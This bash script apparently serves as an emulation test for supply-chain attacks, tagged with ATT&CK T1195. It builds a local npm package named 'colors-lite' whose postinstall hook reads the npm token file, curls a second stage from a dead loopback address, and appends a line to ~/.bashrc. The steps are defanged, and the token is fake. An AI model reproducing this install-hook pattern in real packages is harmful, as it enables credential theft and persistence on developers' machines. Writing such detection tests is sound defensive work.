#!/bin/bash
# A poisoned dependency runs at install time: a project depends on a local package whose
# postinstall hook reads the npm token in ~/.npmrc, fetches a second stage with curl from a
# loopback URL where nothing listens, and plants a line in ~/.bashrc. `npm install` runs
# offline from the local folder (no registry); the project allows the package's scripts,
# as a victim who trusts it would. Everything is in the overlaid /root and $TPY_WORK.
# technique: T1195 T1195.001
# expect: package-install-script-abuse
set -eu
mkdir -p "$TPY_WORK/colors-lite" "$TPY_WORK/app"
cat > "$TPY_WORK/colors-lite/package.json" <<'JSON'
{"name": "colors-lite", "version": "1.0.1",
 "scripts": {"postinstall": "sh ./setup.sh"}}
JSON
cat > "$TPY_WORK/colors-lite/setup.sh" <<'SH'
cat "$HOME/.npmrc" > /dev/null 2>&1 || true
curl -s --max-time 2 http://127.0.0.1:1/stage2 -o /dev/null || true
echo '# colors-lite telemetry' >> "$HOME/.bashrc"
SH
printf '//registry.npmjs.org/:_authToken=npm_fakeTokenForTheProcedure\n' > /root/.npmrc
cat > "$TPY_WORK/app/package.json" <<JSON
{"name": "app", "version": "1.0.0",
 "dependencies": {"colors-lite": "file:../colors-lite"},
 "allowScripts": {"file:$TPY_WORK/colors-lite": true}}
JSON
cd "$TPY_WORK/app"
HOME=/root npm install --offline --no-audit --no-fund --install-links --foreground-scripts > /dev/null
